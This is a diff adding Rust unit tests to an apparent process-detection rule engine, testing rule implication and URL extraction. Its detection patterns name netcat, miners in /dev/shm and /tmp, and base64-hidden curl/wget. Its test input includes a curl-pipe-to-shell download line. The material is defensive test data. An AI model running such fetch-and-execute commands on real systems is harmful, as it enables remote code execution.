+        // Prefixes and contains.
+        assert!(implies(
+            "exe = { prefix = [\"/dev/shm/x/\"] }",
+            "exe = { prefix = [\"/dev/shm/\"] }"
+        ));
+        assert!(implies(
+            "exe = { prefix = [\"/tmp/miner\"] }",
+            "exe = { contains = [\"miner\"] }"
+        ));
+        assert!(!implies(
+            "exe = { prefix = [\"/dev/\"] }",
+            "exe = { prefix = [\"/dev/shm/\"] }"
+        ));
+        // More conditions imply fewer; a missing one implies nothing.
+        assert!(implies(
+            "basename = [\"sh\"]\nuid = [1000]",
+            "uid = [1000, 1001]"
+        ));
+        assert!(!implies("basename = [\"sh\"]", "uid = [1000]"));
+        // argv: none is contravariant, min_args and max_argc by bound, base64 by substring.
+        assert!(implies(
+            "argv = { none = [\"-z\", \"-h\"] }",
+            "argv = { none = [\"-z\"] }"
+        ));
+        assert!(!implies(
+            "argv = { none = [\"-z\"] }",
+            "argv = { none = [\"-z\", \"-h\"] }"
+        ));
+        assert!(implies(
+            "argv = { min_args = 3 }",
+            "argv = { min_args = 1 }"
+        ));
+        assert!(!implies(
+            "argv = { min_args = 1 }",
+            "argv = { min_args = 3 }"
+        ));
+        assert!(implies(
+            "argv = { max_argc = 0 }",
+            "argv = { max_argc = 1 }"
+        ));
+        assert!(implies(
+            "argv = { base64_contains = [\"curl -s\"] }",
+            "argv = { base64_contains = [\"curl\", \"wget\"] }"
+        ));
+        // Nested: a parent condition implies the same ancestor condition; any by branches;
+        // not contravariantly.
+        assert!(implies(
+            "parent = { basename = [\"nginx\"] }",
+            "ancestor = { basename = [\"nginx\", \"httpd\"] }"
+        ));
+        assert!(!implies(
+            "ancestor = { basename = [\"nginx\"] }",
+            "parent = { basename = [\"nginx\"] }"
+        ));
+        assert!(implies(
+            "any = [{ basename = [\"nc\"] }, { basename = [\"ncat\"], uid = [0] }]",
+            "basename = [\"nc\", \"ncat\"]"
+        ));
+        assert!(!implies(
+            "any = [{ basename = [\"nc\"] }, { exe = [\"/x\"] }]",
+            "basename = [\"nc\"]"
+        ));
+        assert!(implies(
+            "basename = [\"nc\"]",
+            "any = [{ basename = [\"nc\"] }, { uid = [0] }]"
+        ));
+        assert!(implies("not = { uid = [0, 1] }", "not = { uid = [0] }"));
+        assert!(!implies("not = { uid = [0] }", "not = { uid = [0, 1] }"));
+        // Different regexes are not compared: not shown.
+        assert!(!implies(
+            "exe = { regex = [\"^/a\"] }",
+            "exe = { regex = [\"^/a.*\"] }"
+        ));
+        assert!(implies(
+            "stdin_writer = { basename = [\"curl\"] }",
+            "stdin_writer = { basename = [\"curl\", \"wget\"] }"
+        ));
+    }
+
+    #[test]
+    fn urls_are_found_inside_arguments() {
+        let got: Vec<&str> =
+            urls("curl -fsSL HTTPS://x.example/a.sh?b=1|sh; wget 'http://203.0.113.9/p'").collect();
+        assert_eq!(got, ["HTTPS://x.example/a.sh?b=1", "http://203.0.113.9/p"]);
+        assert_eq!(urls("--url=ftp://h/f").collect::<Vec<_>>(), ["ftp://h/f"]);
+        assert_eq!(urls("xhttp://h/ git+ssh://h/r http://").count(), 0);
+        assert_eq!(urls("stratum+tcp://pool:3333").count(), 0);
+        // A scheme separator at the very start, or only one, is no URL (and no panic).
+        assert_eq!(urls("://x").count(), 0);
+        assert_eq!(urls("p://x s://").count(), 0);
+        assert_eq!(urls("é://x http://h/é").collect::<Vec<_>>(), ["http://h/é"]);
+        // Every substring (on char boundaries) of a mix of schemes, separators and
+        // multi-byte text: no panic, and every URL found starts with its scheme.
+        let mix = "ftp://é http:// xhttps://a ://b https://ü/p?q=1|sh ftp:/ http:/";
+        let cuts: Vec<usize> = mix
+            .char_indices()
+            .map(|(i, _)| i)
+            .chain([mix.len()])
+            .collect();
+        for &a in &cuts {
+            for &b in cuts.iter().filter(|&&b| b >= a) {
+                for u in urls(&mix[a..b]) {
+                    let l = u.to_ascii_lowercase();
+                    assert!(l.starts_with("http") || l.starts_with("ftp"), "{u}");
+                }
+            }
+        }
     }
 
     #[test]
